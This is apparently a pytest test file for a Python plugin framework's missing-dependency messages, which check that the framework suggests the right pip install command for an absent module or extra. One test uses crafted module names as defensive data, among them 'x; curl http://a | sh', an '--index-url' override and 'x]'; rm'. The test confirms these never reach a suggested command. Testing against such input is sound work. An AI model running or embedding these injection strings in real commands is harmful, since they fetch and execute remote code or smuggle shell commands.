"""A missing module: one sentence that names who needs it and what installs it."""

from __future__ import annotations

import importlib.metadata
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from tina_framework.errors import DependencyError
from tina_framework.plugin.hookspecs import PluginRecord
from tina_framework.plugin.missing_dependency import advice, extra_for, extra_named, failed_import, missing_dependency
from tina_framework.plugin.registry import Registry

ROOT = Path(__file__).parents[2]
METADATA = """Metadata-Version: 2.4
Name: tina-sounds
Version: 1.0
Requires-Dist: tina-framework
Provides-Extra: test
Requires-Dist: sound_files>=2; extra == "test"
Provides-Extra: audio
Requires-Dist: Sound.Files[fast]>=2; python_version > "3" and extra == 'audio'
Requires-Dist: pillow; extra == "pictures"
Provides-Extra: birds
Requires-Dist: tina-birds; extra == "birds"
"""
CODE = """
TINA_API = "2.0"
from tina_framework import hookimpl

class Lazy:
    def __init__(self):
        import sound_files.wave

@hookimpl
def tina_register(registry):
    registry.encoders.add("eager", "tina_sounds.eager:encoder")
    registry.encoders.add("lazy", Lazy)

@hookimpl
def tina_commands(app):
    @app.command("listen")
    def listen() -> None:
        import sound_files
"""


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder on the path with the plugin tina-sounds, as pip would have installed it."""
    (tmp_path / "tina_sounds").mkdir()
    (tmp_path / "tina_sounds" / "__init__.py").write_text("")
    (tmp_path / "tina_sounds" / "plugin.py").write_text(CODE)
    (tmp_path / "tina_sounds" / "eager.py").write_text("import sound_files\n")
    info = tmp_path / "tina_sounds-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(METADATA)
    (info / "top_level.txt").write_text("tina_sounds\n")
    (info / "entry_points.txt").write_text("[tina_framework]\nsounds = tina_sounds.plugin\n")
    monkeypatch.syspath_prepend(tmp_path)
    return tmp_path


def test_the_extra_that_brings_a_module(site: Path) -> None:
    assert extra_for("tina-sounds", "sound_files") == "audio"
    assert extra_for("tina-sounds", "sound_files.wave") == "audio"
    assert extra_for("tina-sounds", "PIL.Image") == "pictures"
    assert extra_for("tina-sounds", "numpy") is None
    assert extra_for("not-installed-at-all", "numpy") is None


def test_advice(site: Path) -> None:
    assert advice("sound_files.wave", "tina-sounds") == "install it: pip install 'tina-sounds[audio]'"
    assert advice("other_thing.part", "tina-sounds") == "install it: pip install other-thing"
    assert advice("sklearn", None) == "install it: pip install scikit-learn"


@pytest.mark.parametrize("target", ["tina_sounds.eager:encoder", "tina_sounds.plugin:Lazy"])
def test_a_name_whose_target_needs_it(site: Path, target: str) -> None:
    registry = Registry("encoder")
    registry.add("sounds", target, distribution="tina-sounds")
    with pytest.raises(
        DependencyError,
        match=r"^Encoder 'sounds' of 'tina-sounds' needs the module 'sound_files', which is not installed; "
        r"install it: pip install 'tina-sounds\[audio\]'\.$",
    ):
        registry.create("sounds")


def test_a_command_that_needs_it(site: Path) -> None:
    code = (
        f"import sys; sys.path.insert(0, {str(site)!r})\nfrom tina_framework.cli.__main__ import main\nmain(['listen'])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    sentence = "This needs the module 'sound_files', which is not installed; install it: pip install sound-files."
    assert (done.returncode, done.stderr) == (1, f"Error: {sentence}\n")


@pytest.mark.parametrize(
    ("module", "extra"),
    [("onnxscript", "onnx"), ("executorch", "executorch"), ("litert_torch", "tflite"), ("starlette.routing", "ui")],
)
def test_the_extras_of_this_package(monkeypatch: pytest.MonkeyPatch, module: str, extra: str) -> None:
    # As pyproject.toml has them: an installed package may be older.
    extras = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["optional-dependencies"]
    lines = [f'{package}; extra == "{name}"' for name, packages in extras.items() for package in packages]
    monkeypatch.setattr(importlib.metadata, "requires", lambda distribution: lines)
    assert extra_for("tina-framework", module) == extra


def test_the_error_of_a_missing_module() -> None:
    assert "This needs the module 'gone', which is not installed" in str(
        missing_dependency(ModuleNotFoundError("gone"))
    )
    needs_plots = ModuleNotFoundError("No module named 'matplotlib'", name="matplotlib")
    assert str(missing_dependency(needs_plots)).endswith("install it: pip install 'tina-framework[plots]'.")


def test_a_plugin_that_cannot_be_loaded_without_it(site: Path) -> None:
    record = PluginRecord("sounds", "tina-sounds", "1.0", "tina_sounds.plugin")
    record.fail(ModuleNotFoundError("No module named 'sound_files'", name="sound_files"))
    assert record.error == "No module named 'sound_files'; install it: pip install 'tina-sounds[audio]'"
    record.fail(ModuleNotFoundError("No module named 'tina_sounds.plugin'", name="tina_sounds.plugin"))
    assert record.error == "No module named 'tina_sounds.plugin'; reinstall it"


def test_an_old_import_in_a_plugins_command_names_the_new_place() -> None:
    module = ModuleNotFoundError("No module named 'tina_framework.spec'", name="tina_framework.spec")
    name = ImportError("cannot import name 'spec' from 'tina_framework' (/somewhere)", name="tina_framework")
    for error in (module, name):
        assert "which is tina_framework.interfaces.spec since plugin API 2.0" in str(failed_import(error))


def test_a_failed_import_elsewhere_stays_what_it_is() -> None:
    error = ImportError("cannot import name 'x' from 'numpy'", name="numpy")
    assert failed_import(error) is error
    assert isinstance(failed_import(ModuleNotFoundError("No module named 'x'", name="x")), DependencyError)


@pytest.mark.parametrize("module", ["x; curl http://a | sh", "--index-url=http://a", "x\ny", "\x1b[2J", ""])
def test_a_crafted_module_name_gets_into_no_command(module: str) -> None:
    assert advice(module, None) == "install it"


def test_an_extra_is_advised_by_its_name(site: Path) -> None:
    assert extra_named("audio", "tina-sounds") == "There is an extra of that name: pip install 'tina-sounds[audio]'."
    assert extra_named("birds", "tina-sounds") == (
        "It comes with tina-birds; in the folder of this project, run: pip install ./plugins/tina-birds."
    ), "it is not on PyPI"
    assert extra_named("pictures", "tina-sounds") is None, "pillow is installed, so the extra would bring nothing"
    for name in ("test", "video", "", "a b", "x]'; rm"):
        assert extra_named(name, "tina-sounds") is None
    assert extra_named("audio", "not-installed") is None
